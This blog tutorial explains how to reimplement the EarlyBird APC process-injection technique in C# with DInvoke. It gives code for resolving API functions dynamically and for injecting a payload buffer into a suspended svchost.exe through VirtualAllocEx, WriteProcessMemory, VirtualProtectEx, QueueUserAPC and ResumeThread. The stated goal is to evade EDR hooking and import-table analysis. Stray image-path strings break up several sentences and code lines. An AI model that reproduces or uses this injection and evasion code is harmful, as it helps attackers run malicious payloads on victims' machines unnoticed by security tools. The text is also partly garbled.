Skip to main content

EarlyBird Process Injection technique using DInvoke


Here are some pre-requisite knowledge, that might help you in understanding the blog even more:

  1. Little knowledge about C#
  2. Little knowledge about sysinternals
  3. Some knowledge about process injection techniques
  4. Knowledge about P/Invoke


This blog is about, how I was able to recreate the EarlyBird UserAPC process injection technique with DInvoke. There is also a POC version of this technique on my repository : EarlyBird

It is a very simple code execution technique. This lets the attacker execute the payload before the entry point of the main thread of the process, before any AV/EDR can hook into it. (To hook into this process, the AV/EDR must place the hook before the main thread)

Steps involved in this technique

  • First a process is created in a suspended state using CreateProcess Win32 API
  • Then in that process, memory region is allocated for the shellcode using VirtualAlloc
  • The shellcode is written into the memory region using WriteProcessMemory• Once the shellcode is writteninto the memory region QueueUserAPC function is called to add a UserAPC to the child process, which points to the start of the shellcode
  • Now ResumeThread API is called to resume the main thread of the process which is in suspended state

This is the overview of this technique.

Need for using DInvoke

  • The modern EDRs can detect malwares, even when they are executed in-memory using API hooking. Using hooking the EDR can redirect the function call and inspect it.

  • So if someone uses the normal P/Invoke calls, there will be a corresponding entry in the IAT (Import Address Table). Therefore, an entry on the IAT will be created, giving out the behavior of the tool. The IAT can later be analyzed by the Blue Team to get an idea about its behavior

  • Using DInvoke or Dynamic Invoke, you can dynamically refer to the address of an API and call it. Therefore, there is no detection in the IAT of the executable• So, DInvoke can be one of the useful techniques for defeating an EDR and can be used in several different cases

What are Delegates?

Before we start porting our EarlyBird POC to using DInvoke, we must have a little idea about what are delegates and how they are essential for DInvoke.

According to do MSDN, A delegate is a type that represents references to methods with a particular parameter list and return type. When you instantiate a delegate, you can associate its instance with any method with a compatible signature and return type. You can invoke (or call) the method through the delegate instance. Delegates are used to pass methods as arguments to other methods. (Source :

Therefore, we can essentially get the address of a DLL, search through the DLL for a function and retrieve the pointer to that function.Now, we can use the delegates to wrap the function into a class, call that function, as well as pass our parameters.

Porting the POC to using DInvoke technique

Although in the final I have rewritten a lot of things in a different way, but the original code is from SharpSploit DInvoke


  • The first important function that we need to understand is GetLibraryAddress.
public static IntPtr GetLibraryAddress(string DLLName, string FunctionName, bool CanLoadFromDisk = false)
    IntPtr hModule = GetLoadedModuleAddress(DLLName);
    if (hModule == IntPtr.Zero && CanLoadFromDisk)
        hModule = LoadModuleFromDisk(DLLName);
        if (hModule == IntPtr.Zero)
            throw new FileNotFoundException(DLLName + ", unable to find the specified file.");
    else if (hModule == IntPtr.Zero)
        throw new DllNotFoundException(DLLName + ", Dll was notfound.");

    return GetExportAddress(hModule, FunctionName);
  • This function takes the name of the function that we want to call, and the name of the DLL where the function is located in.
  • At first it tries to get the function from the loaded module using GetLoadedModuleAddress
  • If it is not loaded a NULL pointer is returned, then the module is loaded from the disk using LoadModuleFromDisk
  • If the address of module is loaded, then the pointer to the function is returned using the GetExportAddress function, which parses the export table.


  • This is another important function in the SharpSploit suite
public static IntPtr GetLoadedModuleAddress(string DLLName)
    ProcessModuleCollection ProcModules = Process.GetCurrentProcess().Modules;
    foreach (ProcessModule Mod in ProcModules)
        if (Mod.FileName.ToLower().EndsWith(DLLName.ToLower()))
            return Mod.BaseAddress;
    return IntPtr.Zero;
  • This lists the already loaded modules on the context of the current process.
  • The string is then converted to lower case and compared with the DLL name that we provided
  • The loaded module has the complete path, for example: C:\Windows\SYSTEM32\ntdll.dll
  • Therefore, the end of the string is calculated with the DLL that we provided.
  • If there is a match, then the address of the DLL is returned, else a NULL pointer is returned

Loading modules from disk

  • If a module is not loaded in the context of the current process, one needs to load it from the disk
  • For this purpose, the most important is the LdrLoadDll API
  • Therefore a wrapper for the LdrLoadDll API is created as follows
public static Execute.Native.NTSTATUS LdrLoadDll(IntPtr PathToFile, UInt32 dwFlags, ref Execute.Native.UNICODE_STRING ModuleFileName, ref IntPtr ModuleHandle)
    // Craft an array for the arguments
    object[] funcargs =
        PathToFile, dwFlags, ModuleFileName, ModuleHandle

    Execute.Native.NTSTATUSretValue = (Execute.Native.NTSTATUS)Generic.DynamicAPIInvoke(@"ntdll.dll", @"LdrLoadDll", typeof(DELEGATES.LdrLoadDll), ref funcargs);

    // Update the modified variables
    ModuleHandle = (IntPtr)funcargs[3];

    return retValue;
  • Here the function DynamicAPIInvoke is used which also calls DynamicFunctionInvoke to load the ntdll.dll module, the LdrLoadDll module and subsequently invoke the API.

  • The next function is the LoadModuleFromDisk function.public static IntPtr LoadModuleFromDisk(string DLLPath)
    Execute.Native.UNICODE_STRING uModuleName = new Execute.Native.UNICODE_STRING();Native.RtlInitUnicodeString(ref uModuleName, DLLPath);

    IntPtr hModule = IntPtr.Zero;
    Execute.Native.NTSTATUS CallResult = Native.LdrLoadDll(IntPtr.Zero, 0, ref uModuleName, ref hModule);
    if (CallResult != Execute.Native.NTSTATUS.Success || hModule == IntPtr.Zero)
        return IntPtr.Zero;

    return hModule;
  • First the module name is converted to an UNICODE_STRING using RtlInitUnicodeString wrapper for the function of the same name. (This wrapper is created inthe same way as above)

  • This string is then passed to the wrapper of LdrLoadDll function.

  • LdrLoadDll takes 4 arguments, 2 of them are important to us. One is the module name and the other one is an empty pointer which will hold the pointer to the module.

  • This is how SharpSploit can load the address of a module from the disk

Creating Delegates for the functions

Creating delegates for the functions is also a very important step. For example a delegate for the function CreateProcessA is created as follows

public delegate bool createproc(string lpApplicationName, string lpCommandLine, IntPtr lpProcessAttributes, IntPtr lpThreadAttributes, bool bInheritHandles, ProcessCreationFlags dwCreationFlags, IntPtr lpEnvironMent, string lpCurrentDirectory, [In] ref STARTUPINFO lpStartupInfo, out PROCESS_INFORMATION lpProcessInformation);
  • Here we can name the delegate of our choice, or even use a hash in its place.

Invoking functions through the delegates

  • First we need to get the function pointer using the GetLibraryAddress functionIntPtr fPtr = GetLibaddr("kernel32.dll", "CreateProcessA");
  • You can also refer to another implementation of DInvoke by [Soumyadeep Basu] (, where he uses hashes in place of actual names of the modules and functions. Since, strings can be recovered easily from the binary.
  • Then get the delegate for the function pointer. Store it into a variable with the same delegate type as createproc for CreateProcessA API
createproc cp = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(createproc)) as createproc;
  • Here you can use the variable of the delegate type createproc as you’d normally call in P/Invoke
bool createprocstat = cp("C:\\Windows\\System32\\svchost.exe", null, IntPtr.Zero, IntPtr.Zero, false, ProcessCreationFlags.CREATE_SUSPENDED, IntPtr.Zero, null, ref si, out pi);
  • CreateProcessA takes the complete path of the binary from which you want to create the process. Here it is svchost.exe
  • Give the process creation flags as CREATE_SUSPENDED with a value of 0x00000004
  • The variable si of type STARTUPINFO stores the startup information and the variable pi of type PROCESS_INFORMATION stores the process information like the process handle and the thread handle.

Invoking other functions

  • Like this you can create the delegate of VirtualAllocEx and invoke it as well
public delegate IntPtr valloc(IntPtr hProcess, IntPtr lpAddress, uint dwSize, uint flAllocationType, uint flProtect);
fPtr = GetLibaddr("kernel32.dll", "VirtualAllocEx");valloc virtalloc = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(valloc)) as valloc;
IntPtr addr = virtalloc(pi.hProcess, IntPtr.Zero, (uint)buf.Length, (uint)(AllocationType.Commit | AllocationType.Reserve), (uint)MemoryProtection.ReadWrite);
  • We allocate memory in the process that we just created, and refer to it using process handle

  • Thesize of the region will be the length of the payload buffer

  • The allocation type will be MEM_COMMIT and MEM_RESERVE

  • The memory protection will be Read Write, which we will change using VirtualProtectEx after we write our payload into the memory region

  • Now we write to the allocated memory region using WriteProcessMemory

public delegate bool writeprocmem(IntPtr hProcess, IntPtr lpBaseAddress, byte[] lpBuffer, uint nSize, out UIntPtr lpNumberOfBytesWritten);
UIntPtr byteswritten = UIntPtr.Zero;
fPtr = GetLibaddr("kernel32.dll", "WriteProcessMemory");
writeprocmem wrpm = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(writeprocmem)) as writeprocmem;
wrpm(pi.hProcess, addr, buf, (uint)buf.Length, out byteswritten);
  • WriteProcessMemory takes the process handle, the address of the allocated memory region, the array containing the payload, the length of the payload buffer. It also returns the number of bytes written to the memory

  • Once the payload is written to the memory, use VirtualProtectEx to change the permission to Read Execute, since according to Data Execution Prevention (DEP) a memory cannot be writable and executable at the same time, and if we create a memory region Writable and executable at the same time, the EDR might catch up

public delegate Boolean vprotect(IntPtr hProcess, IntPtr lpAddress, int dwSize, uint flNewProtect, out uint lpflOldProtect);
uint oldProtect = 0;
fPtr = GetLibaddr("kernel32.dll", "VirtualProtectEx");
vprotect vprot = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(vprotect)) as vprotect;
vprot(pi.hProcess, addr, buf.Length,(uint)MemoryProtection.ExecuteRead, out oldProtect);
  • The function takes the process handle, the allocated memory region, the size of the memory region, the new memory protection that we want to set and a variable tostore the old memory protection

  • Then we call the QueueUserAPC API

public delegate IntPtr queueUseApc(IntPtr pfnAPC, IntPtr hThread, IntPtr dwData);
fPtr = GetLibaddr("kernel32.dll", "QueueUserAPC");
queueUseApc qapc = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(queueUseApc)) as queueUseApc;
qapc(addr, pi.hThread, IntPtr.Zero);
  • We first supply the address of the allocated memory region for the pointer to the UserAPC

  • The supply the handle to the thread where this is located. The next parameters is not of use to us

  • Finally we call the resume thread function to resume the thread that was in suspended state till now

public delegate uint resthread(IntPtr hThhread);
fPtr = GetLibaddr("kernel32.dll", "ResumeThread");
resthread rt = Marshal.GetDelegateForFunctionPointer(fPtr, typeof(resthread)) as resthread;
  • It just takes the thread handle that we are working on.
  • A better approach would be to close the thread and process handles using the CloseHandle API


This was my explanation of the DInvoke and use of Delegates. Pardon my mistakes in the explanations. Although, directly using this won’t be very much useful, but it can be used in other techniques for better results.You can refer to my version of the code here :